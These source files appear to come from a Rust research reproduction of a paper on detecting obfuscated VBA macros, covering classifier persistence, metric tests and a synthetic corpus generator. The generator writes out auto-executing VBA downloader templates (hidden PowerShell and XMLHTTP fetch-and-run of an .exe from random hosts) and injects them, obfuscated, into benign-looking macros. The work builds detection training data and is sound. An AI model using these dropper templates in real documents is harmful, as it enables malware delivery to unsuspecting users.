    /// Restores a network saved by [`MlpClassifier::to_text`].
    ///
    /// # Errors
    ///
    /// Fails on malformed or truncated text.
    pub fn from_text(text: &str) -> Result<Self, crate::persist::PersistError> {
        let mut r = crate::persist::Reader::open(text, "mlp")?;
        let shape = r.ints("shape")?;
        if shape.len() < 2 || shape.iter().any(|&s| s <= 0) {
            return Err(crate::persist::PersistError {
                line: 2,
                reason: "shape needs >= 2 positive sizes".to_string(),
            });
        }
        let mut layers = Vec::with_capacity(shape.len() - 1);
        for pair in shape.windows(2) {
            let (inputs, outputs) = (pair[0] as usize, pair[1] as usize);
            let bias = r.floats("bias")?;
            if bias.len() != outputs {
                return Err(crate::persist::PersistError {
                    line: 0,
                    reason: "bias length mismatch".to_string(),
                });
            }
            let mut weights = Vec::with_capacity(outputs);
            for _ in 0..outputs {
                let row = r.floats("w")?;
                if row.len() != inputs {
                    return Err(crate::persist::PersistError {
                        line: 0,
                        reason: "weight row length mismatch".to_string(),
                    });
                }
                weights.push(row);
            }
            layers.push(Layer {
                vel_w: vec![vec![0.0; inputs]; outputs],
                vel_b: vec![0.0; outputs],
                weights,
                bias,
            });
        }
        let hidden: Vec<usize> = shape[1..shape.len() - 1]
            .iter()
            .map(|&s| s as usize)
            .collect();
        Ok(MlpClassifier {
            hidden,
            epochs: 0,
            learning_rate: 1e-3,
            momentum: 0.9,
            batch_size: 32,
            seed: 0,
            layers,
        })
    }
}

#[cfg(test)]
mod persist_tests {
    use super::*;

    #[test]
    fn save_load_roundtrip_is_exact() {
        let x: Vec<Vec<f64>> = (0..50).map(|i| vec![(i as f64 - 25.0) / 5.0]).collect();
        let y: Vec<bool> = (0..50).map(|i| i >= 25).collect();
        let mut mlp = MlpClassifier::with_seed(&[6, 4], 60, 0.05, 3);
        mlp.fit(&x, &y);
        let loaded = MlpClassifier::from_text(&mlp.to_text()).unwrap();
        for row in &x {
            assert_eq!(
                mlp.decision_function(row).to_bits(),
                loaded.decision_function(row).to_bits()
            );
        }
    }

    #[test]
    fn malformed_rejected() {
        assert!(MlpClassifier::from_text("x").is_err());
        assert!(MlpClassifier::from_text("vbadet-model mlp v1\nshape 3\n").is_err());
    }
}
