//! Property-based tests for metrics, cross-validation and classifier sanity.

use proptest::prelude::*;
use vbadet_ml::{auc, f_beta, roc_curve, stratified_kfold, Classifier, ConfusionMatrix};

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// AUC is within [0,1] and invariant under monotone score transforms.
    #[test]
    fn auc_bounds_and_monotone_invariance(
        labels in proptest::collection::vec(any::<bool>(), 2..200),
        scores in proptest::collection::vec(-1000.0f64..1000.0, 2..200),
    ) {
        let n = labels.len().min(scores.len());
        let labels = &labels[..n];
        let scores = &scores[..n];
        let a = auc(labels, scores);
        prop_assert!((0.0..=1.0).contains(&a), "auc {a}");
        // Strictly increasing transform preserves ranking, hence AUC.
        let transformed: Vec<f64> = scores.iter().map(|s| (s / 100.0).tanh() * 7.0 + 3.0).collect();
        let b = auc(labels, &transformed);
        prop_assert!((a - b).abs() < 1e-9, "{a} vs {b}");
    }

    /// ROC curves are monotone nondecreasing in both coordinates.
    #[test]
    fn roc_is_monotone(
        labels in proptest::collection::vec(any::<bool>(), 2..100),
        scores in proptest::collection::vec(-10.0f64..10.0, 2..100),
    ) {
        let n = labels.len().min(scores.len());
        let points = roc_curve(&labels[..n], &scores[..n]);
        for pair in points.windows(2) {
            prop_assert!(pair[1].0 >= pair[0].0);
            prop_assert!(pair[1].1 >= pair[0].1);
        }
        prop_assert_eq!(*points.first().unwrap(), (0.0, 0.0));
        prop_assert_eq!(*points.last().unwrap(), (1.0, 1.0));
    }

    /// Perfect separation gives AUC 1; inverted gives 0.
    #[test]
    fn auc_extremes(pos in 1usize..50, neg in 1usize..50) {
        let mut labels = vec![false; neg];
        labels.extend(vec![true; pos]);
        let scores: Vec<f64> = (0..neg + pos).map(|i| i as f64).collect();
        prop_assert!((auc(&labels, &scores) - 1.0).abs() < 1e-12);
        let inverted: Vec<f64> = scores.iter().map(|s| -s).collect();
        prop_assert!(auc(&labels, &inverted).abs() < 1e-12);
    }

    /// Fβ lies between min and max of (precision, recall) and F1 is their
    /// harmonic mean.
    #[test]
    fn f_beta_bounds(p in 0.01f64..1.0, r in 0.01f64..1.0, beta in 0.1f64..10.0) {
        let f = f_beta(p, r, beta);
        prop_assert!(f <= p.max(r) + 1e-12);
        prop_assert!(f >= p.min(r) - 1e-12);
        let f1 = f_beta(p, r, 1.0);
        let harmonic = 2.0 * p * r / (p + r);
        prop_assert!((f1 - harmonic).abs() < 1e-12);
    }

    /// Confusion-matrix identities hold for arbitrary label vectors.
    #[test]
    fn confusion_identities(
        y_true in proptest::collection::vec(any::<bool>(), 1..200),
        y_pred in proptest::collection::vec(any::<bool>(), 1..200),
    ) {
        let n = y_true.len().min(y_pred.len());
        let m = ConfusionMatrix::from_predictions(&y_true[..n], &y_pred[..n]);
        prop_assert_eq!(m.total(), n);
        prop_assert_eq!(m.tp + m.fn_, y_true[..n].iter().filter(|&&t| t).count());
        prop_assert_eq!(m.tp + m.fp, y_pred[..n].iter().filter(|&&t| t).count());
        prop_assert!((0.0..=1.0).contains(&m.accuracy()));
    }

    /// Stratified folds partition the index set and balance classes.
    #[test]
    fn kfold_partitions(
        labels in proptest::collection::vec(any::<bool>(), 10..150),
        k in 2usize..8,
        seed in any::<u64>(),
    ) {
        prop_assume!(k <= labels.len());
        let folds = stratified_kfold(&labels, k, seed);
        let mut seen = vec![false; labels.len()];
        for fold in &folds {
            for &i in fold {
                prop_assert!(!seen[i], "index {i} duplicated");
                seen[i] = true;
            }
        }
        prop_assert!(seen.iter().all(|&s| s));
        // Fold sizes within 2·ceil(n/k) of each other (per-class round robin).
        let sizes: Vec<usize> = folds.iter().map(|f| f.len()).collect();
        let min = *sizes.iter().min().unwrap();
        let max = *sizes.iter().max().unwrap();
        prop_assert!(max - min <= 2, "{sizes:?}");
    }

    /// Every classifier learns a wide-margin 1-D threshold problem.
    #[test]
    fn classifiers_learn_separable_threshold(seed in any::<u64>(), gap in 2.0f64..10.0) {
        let x: Vec<Vec<f64>> = (0..60)
            .map(|i| {
                let base = (i % 30) as f64 / 30.0;
                if i < 30 { vec![base] } else { vec![base + gap] }
            })
            .collect();
        let y: Vec<bool> = (0..60).map(|i| i >= 30).collect();
        let mut models: Vec<Box<dyn Classifier>> = vec![
            Box::new(vbadet_ml::RandomForest::with_seed(15, 0, seed)),
            Box::new(vbadet_ml::LinearDiscriminant::new()),
            Box::new(vbadet_ml::BernoulliNb::new(1.0)),
            Box::new(vbadet_ml::SvmRbf::new(10.0, 0.5)),
        ];
        for model in models.iter_mut() {
            model.fit(&x, &y);
            prop_assert!(model.predict(&[gap + 0.5]), "{} misses positive", model.name());
            prop_assert!(!model.predict(&[0.5]), "{} misses negative", model.name());
        }
    }
}
