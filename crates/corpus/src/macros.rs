//! Macro-level corpus assembly: the evaluation set of Table III, with
//! obfuscation applied per the paper's rates and Figure 5(b)'s length
//! clusters.

use crate::spec::CorpusSpec;
use crate::templates::{benign, malicious};
use rand::rngs::StdRng;
use rand::Rng;
use rand::SeedableRng;
use std::collections::HashSet;
use vbadet_obfuscate::{Obfuscator, Technique};

/// One labeled macro in the evaluation set.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MacroSample {
    /// The module source code.
    pub source: String,
    /// Ground truth: was an obfuscator applied? (The classification target.)
    pub obfuscated: bool,
    /// Did this macro come from the malicious population? (Table III
    /// context only; the paper classifies obfuscation, not maliciousness.)
    pub malicious: bool,
    /// How the macro was obfuscated (diagnostics/ablations; not a feature).
    pub profile: ObfuscationProfile,
}

/// Which generation profile produced an obfuscated macro.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ObfuscationProfile {
    /// Not obfuscated.
    None,
    /// Full pipeline targeted at a Figure 5(b) length cluster.
    FullCluster,
    /// Light: a few strings encoded (O3, limited).
    LightEncoding,
    /// Light: a few strings split (O2, limited).
    LightSplit,
    /// Light: a fraction of identifiers renamed (O1, partial).
    LightRename,
    /// Light: small dummy-code insertion only (O4).
    LightLogic,
}

/// Figure 5(b): obfuscated macros cluster around these code lengths,
/// interpreted as different obfuscator configurations producing variants.
/// Logic-obfuscation intensity is the size knob (≈55 chars per dummy
/// statement).
const LENGTH_CLUSTERS: [(usize, f64); 3] = [
    (1_500, 0.45), // (target chars, weight)
    (3_000, 0.35),
    (15_000, 0.20),
];

/// Generates the full macro evaluation set for `spec` (paper: 4,212 macros,
/// 877 obfuscated). Deterministic in `spec.seed`. All macros are unique and
/// at least 150 bytes (the paper's dedup and length filters are satisfied
/// by construction, and verified end-to-end by the document pipeline).
pub fn generate_macros(spec: &CorpusSpec) -> Vec<MacroSample> {
    let mut rng = StdRng::seed_from_u64(spec.seed);
    let mut seen: HashSet<u64> = HashSet::new();
    let mut out = Vec::with_capacity(spec.total_macros());

    // Benign macros: lengths ~ uniform (Figure 5a); the first
    // `benign_obfuscated` get obfuscated (IP-protection scenario).
    for i in 0..spec.benign_macros {
        let obfuscate = i < spec.benign_obfuscated;
        let (source, profile) = loop {
            let target = rng.gen_range(200..14_000);
            let base = benign::generate(&mut rng, target);
            let candidate = if obfuscate {
                obfuscate_sample(&base, false, &mut rng)
            } else {
                (base, ObfuscationProfile::None)
            };
            if is_fresh(&candidate.0, &mut seen) {
                break candidate;
            }
        };
        out.push(MacroSample {
            source,
            obfuscated: obfuscate,
            malicious: false,
            profile,
        });
    }

    // Malicious macros: small downloaders; almost all obfuscated.
    for i in 0..spec.malicious_macros {
        let obfuscate = i < spec.malicious_obfuscated;
        let (source, profile) = loop {
            let base = malicious::generate(&mut rng);
            let candidate = if obfuscate {
                obfuscate_sample(&base, true, &mut rng)
            } else {
                (base, ObfuscationProfile::None)
            };
            if is_fresh(&candidate.0, &mut seen) {
                break candidate;
            }
        };
        out.push(MacroSample {
            source,
            obfuscated: obfuscate,
            malicious: true,
            profile,
        });
    }
    out
}

/// Fraction of obfuscated macros that are only *lightly* obfuscated: one
/// technique, partially applied, often hidden inside normal-looking code.
/// These are the hard cases that keep real-world recall below 1.0 (Table V:
/// the paper's best recall is 0.915).
const LIGHT_FRACTION: f64 = 0.55;

fn obfuscate_sample<R: Rng + ?Sized>(
    base: &str,
    malicious: bool,
    rng: &mut R,
) -> (String, ObfuscationProfile) {
    if rng.gen_bool(LIGHT_FRACTION) {
        apply_light_obfuscation(base, malicious, rng)
    } else {
        (
            apply_cluster_obfuscation(base, rng),
            ObfuscationProfile::FullCluster,
        )
    }
}

/// Light obfuscation: dilute the payload with benign-looking filler, then
/// apply exactly one technique with limited reach.
fn apply_light_obfuscation<R: Rng + ?Sized>(
    base: &str,
    malicious: bool,
    rng: &mut R,
) -> (String, ObfuscationProfile) {
    // The hard cases in real corpora are *shape-preserving*: the attacker
    // takes an innocuous module (here: a benign shape donor drawn from the
    // same length distribution as the benign population) and injects a small
    // payload procedure whose own strings/names are hidden. Every appearance
    // statistic stays benign-distributed; only the obfuscation *mechanisms*
    // — encoded strings, text-function calls, partially randomized names —
    // remain in the text. (For obfuscated-benign macros the donor is the
    // macro itself and a few of its own strings are transformed: the
    // IP-protection scenario.)
    if malicious {
        let donor_len = rng.gen_range(600..9_000);
        let donor = benign::generate(rng, donor_len);
        let payload = make_payload(rng);
        let (payload, profile) = match rng.gen_range(0..100) {
            0..=39 => (
                vbadet_obfuscate::encoding::apply(&payload, rng),
                ObfuscationProfile::LightEncoding,
            ),
            40..=69 => (
                vbadet_obfuscate::split::apply(&payload, rng),
                ObfuscationProfile::LightSplit,
            ),
            70..=92 => {
                let fraction = rng.gen_range(0.4..0.8);
                // Renaming runs over the whole module after injection.
                let module = insert_payload(&donor, &payload);
                return (
                    vbadet_obfuscate::random::apply_fraction(&module, fraction, rng).0,
                    ObfuscationProfile::LightRename,
                );
            }
            _ => {
                let module = insert_payload(&donor, &payload);
                return (
                    Obfuscator::new()
                        .with(Technique::LogicWithIntensity(rng.gen_range(3..10)))
                        .apply(&module, rng)
                        .source,
                    ObfuscationProfile::LightLogic,
                );
            }
        };
        (insert_payload(&donor, &payload), profile)
    } else {
        match rng.gen_range(0..100) {
            0..=39 => (
                vbadet_obfuscate::encoding::apply_limited(base, rng.gen_range(2..=6), rng),
                ObfuscationProfile::LightEncoding,
            ),
            40..=69 => (
                vbadet_obfuscate::split::apply_limited(base, rng.gen_range(3..=8), rng),
                ObfuscationProfile::LightSplit,
            ),
            70..=92 => {
                let fraction = rng.gen_range(0.4..0.8);
                (
                    vbadet_obfuscate::random::apply_fraction(base, fraction, rng).0,
                    ObfuscationProfile::LightRename,
                )
            }
            _ => (
                Obfuscator::new()
                    .with(Technique::LogicWithIntensity(rng.gen_range(3..10)))
                    .apply(base, rng)
                    .source,
                ObfuscationProfile::LightLogic,
            ),
        }
    }
}

/// A small auto-executing payload procedure, sized and styled like ordinary
/// hand-written procedures.
fn make_payload<R: Rng + ?Sized>(rng: &mut R) -> String {
    let trigger = ["AutoOpen", "Document_Open", "Workbook_Open", "Auto_Open"][rng.gen_range(0..4)];
    let host: String = (0..rng.gen_range(8..14))
        .map(|_| (b'a' + rng.gen_range(0u8..26)) as char)
        .collect();
    let exe: String = (0..rng.gen_range(4..9))
        .map(|_| (b'a' + rng.gen_range(0u8..26)) as char)
        .collect();
    let sh = ["sh", "wsh", "obj", "runner"][rng.gen_range(0..4)];
    match rng.gen_range(0..3) {
        0 => format!(
            "Sub {trigger}()\r\n\
             \x20   Dim {sh} As Object\r\n\
             \x20   Set {sh} = CreateObject(\"WScript.Shell\")\r\n\
             \x20   {sh}.Run \"powershell -w hidden -c (New-Object Net.WebClient).DownloadFile('http://{host}.com/{exe}.exe', $env:TEMP + '\\{exe}.exe')\", 0, False\r\n\
             \x20   Shell Environ(\"TEMP\") & \"\\{exe}.exe\", 0\r\n\
             End Sub\r\n"
        ),
        1 => format!(
            "Sub {trigger}()\r\n\
             \x20   Dim {sh} As Object\r\n\
             \x20   Set {sh} = CreateObject(\"MSXML2.XMLHTTP\")\r\n\
             \x20   {sh}.Open \"GET\", \"http://{host}.net/{exe}.exe\", False\r\n\
             \x20   {sh}.Send\r\n\
             \x20   SaveBody {sh}.responseBody, Environ(\"TEMP\") & \"\\{exe}.exe\"\r\n\
             End Sub\r\n"
        ),
        _ => format!(
            "Sub {trigger}()\r\n\
             \x20   Dim {sh} As String\r\n\
             \x20   {sh} = \"cmd /c start /b powershell -enc {}\"\r\n\
             \x20   Shell {sh}, 0\r\n\
             End Sub\r\n",
            base64ish(rng, 48),
        ),
    }
}

/// Inserts the payload before the donor's first procedure so the trigger
/// leads the module, as macro droppers do.
fn insert_payload(donor: &str, payload: &str) -> String {
    let insert_at = donor
        .find("\r\nSub ")
        .or_else(|| donor.find("\r\nFunction "))
        .map(|p| p + 2);
    match insert_at {
        Some(pos) => {
            let mut out = donor.to_string();
            out.insert_str(pos, payload);
            out.insert_str(pos + payload.len(), "\r\n");
            out
        }
        None => {
            let mut out = donor.to_string();
            out.push_str("\r\n");
            out.push_str(payload);
            out
        }
    }
}

/// Base64-alphabet filler for `-enc` payload arguments.
fn base64ish<R: Rng + ?Sized>(rng: &mut R, len: usize) -> String {
    const SET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    (0..len)
        .map(|_| SET[rng.gen_range(0..SET.len())] as char)
        .collect()
}

fn is_fresh(source: &str, seen: &mut HashSet<u64>) -> bool {
    use std::hash::{Hash, Hasher};
    let mut h = std::collections::hash_map::DefaultHasher::new();
    source.hash(&mut h);
    seen.insert(h.finish())
}

/// Obfuscates `base` toward one of the Figure 5(b) length clusters.
fn apply_cluster_obfuscation<R: Rng + ?Sized>(base: &str, rng: &mut R) -> String {
    let roll: f64 = rng.gen();
    let mut acc = 0.0;
    let mut target = LENGTH_CLUSTERS[0].0;
    for &(len, weight) in &LENGTH_CLUSTERS {
        acc += weight;
        if roll <= acc {
            target = len;
            break;
        }
    }
    // String transforms first, then logic obfuscation applied in a closed
    // loop until the cluster's target size is reached (real obfuscators are
    // run with a fixed config, which is exactly what produces the paper's
    // horizontal lines — the config here is "the target size").
    let string_stage = if rng.gen_bool(0.5) {
        Technique::Split
    } else {
        Technique::Encoding
    };
    let mut current = Obfuscator::new().with(string_stage).apply(base, rng).source;
    while current.len() < target {
        let deficit = target - current.len();
        let intensity = (deficit / 110).clamp(1, 400);
        current = Obfuscator::new()
            .with(Technique::LogicWithIntensity(intensity))
            .apply(&current, rng)
            .source;
    }
    Obfuscator::new()
        .with(Technique::Random)
        .apply(&current, rng)
        .source
}

/// Code lengths of the obfuscated and non-obfuscated groups, for Figure 5.
/// Returns `(non_obfuscated_lengths, obfuscated_lengths)`.
pub fn length_profile(macros: &[MacroSample]) -> (Vec<usize>, Vec<usize>) {
    let mut plain = Vec::new();
    let mut obf = Vec::new();
    for m in macros {
        if m.obfuscated {
            obf.push(m.source.len());
        } else {
            plain.push(m.source.len());
        }
    }
    (plain, obf)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small_spec() -> CorpusSpec {
        CorpusSpec::paper().scaled(0.05)
    }

    #[test]
    fn counts_match_spec() {
        let spec = small_spec();
        let macros = generate_macros(&spec);
        assert_eq!(macros.len(), spec.total_macros());
        let obf = macros.iter().filter(|m| m.obfuscated).count();
        assert_eq!(obf, spec.benign_obfuscated + spec.malicious_obfuscated);
        let mal = macros.iter().filter(|m| m.malicious).count();
        assert_eq!(mal, spec.malicious_macros);
    }

    #[test]
    fn all_macros_unique_and_long_enough() {
        let macros = generate_macros(&small_spec());
        let mut seen = HashSet::new();
        for m in &macros {
            assert!(m.source.len() >= 150, "too short: {}", m.source.len());
            assert!(seen.insert(m.source.clone()), "duplicate macro");
        }
    }

    #[test]
    fn deterministic_per_seed() {
        let a = generate_macros(&small_spec());
        let b = generate_macros(&small_spec());
        assert_eq!(a, b);
        let c = generate_macros(&small_spec().with_seed(1));
        assert_ne!(a, c);
    }

    #[test]
    fn obfuscated_lengths_cluster() {
        let spec = CorpusSpec::paper().scaled(0.1);
        let macros = generate_macros(&spec);
        let (_, obf) = length_profile(&macros);
        // Each obfuscated macro should be near one of the cluster centers.
        let near_cluster = obf
            .iter()
            .filter(|&&len| {
                LENGTH_CLUSTERS.iter().any(|&(c, _)| {
                    let tolerance = if c >= 15_000 { 0.25 } else { 0.6 };
                    let relative = (len as f64 - c as f64).abs() / (c as f64);
                    relative < tolerance
                })
            })
            .count();
        // Only the "full" profile (1 - LIGHT_FRACTION of obfuscated
        // macros) targets the clusters; the light profile is intentionally
        // off-cluster.
        assert!(
            near_cluster as f64 / obf.len() as f64 > (1.0 - LIGHT_FRACTION) * 0.85,
            "{near_cluster}/{} near clusters",
            obf.len()
        );
    }

    #[test]
    fn benign_lengths_spread_widely() {
        let spec = CorpusSpec::paper().scaled(0.1);
        let macros = generate_macros(&spec);
        let (plain, _) = length_profile(&macros);
        let min = *plain.iter().min().unwrap();
        let max = *plain.iter().max().unwrap();
        assert!(min < 1_000, "min {min}");
        assert!(max > 10_000, "max {max}");
    }

    #[test]
    fn obfuscated_macros_look_obfuscated() {
        let spec = small_spec();
        let macros = generate_macros(&spec);
        // Spot-check: for the string-targeting profiles (the 70% "full"
        // ones plus the limited split/encode variants), the true payload URL
        // — recoverable by evaluating the obfuscated expressions — must not
        // survive as a raw literal. Only the partial-rename and logic-only
        // light variants legitimately leave literals alone, so a clear
        // majority must have no intact URL.
        let mut total = 0usize;
        let mut leaky = 0usize;
        for m in macros.iter().filter(|m| m.malicious && m.obfuscated) {
            total += 1;
            let analysis = vbadet_vba::MacroAnalysis::new(&m.source);
            let raw: Vec<&str> = analysis.strings();
            let intact = vbadet_obfuscate::recover::recover_strings(&m.source)
                .iter()
                .any(|r| {
                    r.starts_with("http://") && r.ends_with(".exe") && raw.contains(&r.as_str())
                });
            if intact {
                leaky += 1;
            }
        }
        assert!(
            (leaky as f64) < 0.3 * total as f64,
            "too many intact URLs: {leaky}/{total}"
        );
    }
}
