//! Corpus size/composition parameters (paper Tables II and III).

/// Target composition of a generated corpus. Defaults mirror the paper.
#[derive(Debug, Clone, PartialEq)]
pub struct CorpusSpec {
    /// Benign Word (`.doc`/`.docm`) files (paper: 75).
    pub benign_word_files: usize,
    /// Benign Excel files (paper: 698).
    pub benign_excel_files: usize,
    /// Malicious Word files (paper: 1,410).
    pub malicious_word_files: usize,
    /// Malicious Excel files (paper: 354).
    pub malicious_excel_files: usize,
    /// Unique benign macros after dedup/length filter (paper: 3,380).
    pub benign_macros: usize,
    /// Obfuscated benign macros (paper: 58, i.e. 1.7%).
    pub benign_obfuscated: usize,
    /// Unique malicious macros (paper: 832).
    pub malicious_macros: usize,
    /// Obfuscated malicious macros (paper: 819, i.e. 98.4%).
    pub malicious_obfuscated: usize,
    /// Average benign file size in bytes (paper: ~1.1 MB).
    pub benign_avg_size: usize,
    /// Average malicious file size in bytes (paper: ~0.06 MB).
    pub malicious_avg_size: usize,
    /// Master RNG seed: everything derives from it.
    pub seed: u64,
}

impl CorpusSpec {
    /// The paper's full dataset composition (Tables II and III).
    pub fn paper() -> Self {
        CorpusSpec {
            benign_word_files: 75,
            benign_excel_files: 698,
            malicious_word_files: 1410,
            malicious_excel_files: 354,
            benign_macros: 3380,
            benign_obfuscated: 58,
            malicious_macros: 832,
            malicious_obfuscated: 819,
            benign_avg_size: 1_100_000,
            malicious_avg_size: 60_000,
            seed: 0xD51_2018,
        }
    }

    /// Scales every count by `fraction` (minimum 1 where the original was
    /// non-zero), keeping the class and obfuscation ratios. Useful for fast
    /// tests; file sizes are scaled too, bounded below by 16 KiB.
    pub fn scaled(&self, fraction: f64) -> Self {
        assert!(fraction > 0.0, "fraction must be positive");
        let scale = |n: usize| -> usize {
            if n == 0 {
                0
            } else {
                ((n as f64 * fraction).round() as usize).max(1)
            }
        };
        CorpusSpec {
            benign_word_files: scale(self.benign_word_files),
            benign_excel_files: scale(self.benign_excel_files),
            malicious_word_files: scale(self.malicious_word_files),
            malicious_excel_files: scale(self.malicious_excel_files),
            benign_macros: scale(self.benign_macros),
            benign_obfuscated: scale(self.benign_obfuscated),
            malicious_macros: scale(self.malicious_macros),
            malicious_obfuscated: scale(self.malicious_obfuscated),
            benign_avg_size: ((self.benign_avg_size as f64 * fraction) as usize).max(16_384),
            malicious_avg_size: ((self.malicious_avg_size as f64 * fraction) as usize).max(16_384),
            seed: self.seed,
        }
    }

    /// With a different seed.
    pub fn with_seed(mut self, seed: u64) -> Self {
        self.seed = seed;
        self
    }

    /// Total files.
    pub fn total_files(&self) -> usize {
        self.benign_word_files
            + self.benign_excel_files
            + self.malicious_word_files
            + self.malicious_excel_files
    }

    /// Total macros.
    pub fn total_macros(&self) -> usize {
        self.benign_macros + self.malicious_macros
    }
}

impl Default for CorpusSpec {
    fn default() -> Self {
        Self::paper()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paper_counts_match_tables_2_and_3() {
        let s = CorpusSpec::paper();
        assert_eq!(s.benign_word_files + s.benign_excel_files, 773);
        assert_eq!(s.malicious_word_files + s.malicious_excel_files, 1764);
        assert_eq!(s.total_files(), 2537);
        assert_eq!(s.total_macros(), 4212);
        assert_eq!(s.benign_obfuscated + s.malicious_obfuscated, 877);
        // Obfuscation rates from Table III.
        let benign_rate = s.benign_obfuscated as f64 / s.benign_macros as f64;
        let malicious_rate = s.malicious_obfuscated as f64 / s.malicious_macros as f64;
        assert!((benign_rate - 0.017).abs() < 0.001);
        assert!((malicious_rate - 0.984).abs() < 0.001);
    }

    #[test]
    fn scaling_preserves_ratios_roughly() {
        let s = CorpusSpec::paper().scaled(0.1);
        assert_eq!(s.benign_macros, 338);
        assert_eq!(s.malicious_macros, 83);
        assert!(s.benign_obfuscated >= 1);
        let rate = s.malicious_obfuscated as f64 / s.malicious_macros as f64;
        assert!(rate > 0.9);
    }

    #[test]
    fn tiny_scale_keeps_minimums() {
        let s = CorpusSpec::paper().scaled(0.001);
        assert!(s.benign_macros >= 1);
        assert!(s.benign_obfuscated >= 1);
        assert!(s.benign_avg_size >= 16_384);
    }
}
