//! Synthetic corpus generator calibrated to the DSN 2018 dataset.
//!
//! The paper's corpus (2,537 real documents from Google/Malwr/VirusShare/
//! VirusTotal) is unavailable, so this crate reproduces its *population
//! statistics* — Table II (file counts by type, average sizes), Table III
//! (macro counts, obfuscation rates of 1.7% benign / 98.4% malicious,
//! macro-per-file structure) and Figure 5 (code-length distributions,
//! including the obfuscated group's clusters at ≈1500/3000/15000 chars) —
//! from parameterized VBA templates and the executable O1–O4 obfuscators of
//! [`vbadet_obfuscate`]. Labels are exact by construction.
//!
//! Two products:
//! - [`generate_macros`]: the macro-level evaluation set (paper: 4,212
//!   macros) used by the classification experiments;
//! - [`DocumentFactory`]: real container files (`.doc`/`.xls` OLE,
//!   `.docm`/`.xlsm` OOXML) embedding those macros, so the extraction
//!   pipeline is exercised end-to-end.
//!
//! # Examples
//!
//! ```
//! use vbadet_corpus::{generate_macros, CorpusSpec};
//!
//! let spec = CorpusSpec::paper().scaled(0.02); // ~84 macros for a quick run
//! let macros = generate_macros(&spec);
//! assert!(macros.iter().any(|m| m.obfuscated));
//! assert!(macros.iter().all(|m| m.source.len() >= 150));
//! ```

pub mod documents;
pub mod macros;
pub mod spec;
pub mod templates;

pub use documents::{DocumentFactory, DocumentFile, DocumentKind, FileSummary};
pub use macros::{generate_macros, MacroSample, ObfuscationProfile};
pub use spec::CorpusSpec;
