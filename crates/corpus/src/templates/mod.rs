//! Parameterized VBA macro templates: realistic benign automation code and
//! malicious downloader/dropper code, both instantiated from an RNG.

pub mod benign;
pub mod malicious;

use rand::Rng;

/// Picks one element of a non-empty slice.
pub(crate) fn pick<'a, R: Rng + ?Sized, T: ?Sized>(rng: &mut R, items: &'a [&'a T]) -> &'a T {
    items[rng.gen_range(0..items.len())]
}

/// A plausible business-ish identifier built from word pools, e.g.
/// `UpdateQuarterlyReport` or `customerTotal`.
pub(crate) fn business_name<R: Rng + ?Sized>(rng: &mut R, camel: bool) -> String {
    const VERBS: [&str; 12] = [
        "Update", "Process", "Build", "Format", "Export", "Import", "Check", "Load", "Save",
        "Refresh", "Clear", "Print",
    ];
    const NOUNS: [&str; 14] = [
        "Report", "Sheet", "Invoice", "Customer", "Budget", "Summary", "Table", "Record", "Order",
        "Row", "Range", "Total", "Chart", "List",
    ];
    const QUALIFIERS: [&str; 8] = [
        "Monthly",
        "Quarterly",
        "Annual",
        "Daily",
        "Regional",
        "Final",
        "Draft",
        "Current",
    ];
    let mut name = String::new();
    name.push_str(pick(rng, &VERBS));
    if rng.gen_bool(0.5) {
        name.push_str(pick(rng, &QUALIFIERS));
    }
    name.push_str(pick(rng, &NOUNS));
    if camel {
        let mut chars = name.chars();
        let first = chars.next().expect("non-empty").to_ascii_lowercase();
        name = std::iter::once(first).chain(chars).collect();
    }
    name
}

/// A plausible variable name. Real macro code mixes readable words with
/// vowel-less abbreviations (`qty`, `rpt`, `cfg`) — the abbreviations matter
/// for realism because they are as "unreadable" as obfuscated names.
pub(crate) fn variable_name<R: Rng + ?Sized>(rng: &mut R) -> String {
    const SIMPLE: [&str; 16] = [
        "row", "col", "idx", "total", "count", "cell", "ws", "wb", "item", "value", "name", "path",
        "result", "buffer", "temp", "flag",
    ];
    const ABBREV: [&str; 16] = [
        "qty", "rpt", "cfg", "src", "dst", "cnt", "pos", "lvl", "hdr", "ftr", "pwd", "sql", "xml",
        "txt", "tbl", "rng",
    ];
    let roll = rng.gen_range(0..10);
    if roll < 4 {
        let base = pick(rng, &SIMPLE);
        if rng.gen_bool(0.3) {
            format!("{base}{}", rng.gen_range(1..9))
        } else {
            base.to_string()
        }
    } else if roll < 7 {
        let base = pick(rng, &ABBREV);
        if rng.gen_bool(0.4) {
            format!("{base}{}", rng.gen_range(1..9))
        } else {
            base.to_string()
        }
    } else {
        business_name(rng, true)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn names_are_identifier_shaped() {
        let mut rng = StdRng::seed_from_u64(1);
        for _ in 0..200 {
            let n = business_name(&mut rng, false);
            assert!(n.chars().next().unwrap().is_ascii_uppercase());
            assert!(n.chars().all(|c| c.is_ascii_alphanumeric()));
            let v = variable_name(&mut rng);
            assert!(v.chars().all(|c| c.is_ascii_alphanumeric()));
        }
    }
}
