//! Malicious macro generation: the "Downloader" pattern the paper observes
//! dominating VBA malware (§IV.A) — fetch a payload from a remote address
//! and execute it, triggered by a document-open event.

use super::pick;
use rand::Rng;

/// Generates one malicious (pre-obfuscation) macro module.
///
/// Families rotate between the delivery mechanisms seen in the wild:
/// `URLDownloadToFile`, `WScript.Shell`-launched PowerShell, and
/// `MSXML2.XMLHTTP` + `ADODB.Stream`. All use auto-execution entry points.
pub fn generate<R: Rng + ?Sized>(rng: &mut R) -> String {
    let url = random_url(rng);
    let trigger = pick(
        rng,
        &["Document_Open", "AutoOpen", "Workbook_Open", "Auto_Open"],
    );
    match rng.gen_range(0..4) {
        0 => url_download(rng, trigger, &url),
        1 => powershell(rng, trigger, &url),
        2 => xmlhttp_stream(rng, trigger, &url),
        _ => cmd_dropper(rng, trigger, &url),
    }
}

fn random_url<R: Rng + ?Sized>(rng: &mut R) -> String {
    let host: String = (0..rng.gen_range(8..16))
        .map(|_| (b'a' + rng.gen_range(0u8..26)) as char)
        .collect();
    let tld = pick(rng, &["com", "net", "info", "ru", "cc", "biz"]);
    let file: String = (0..rng.gen_range(4..10))
        .map(|_| (b'a' + rng.gen_range(0u8..26)) as char)
        .collect();
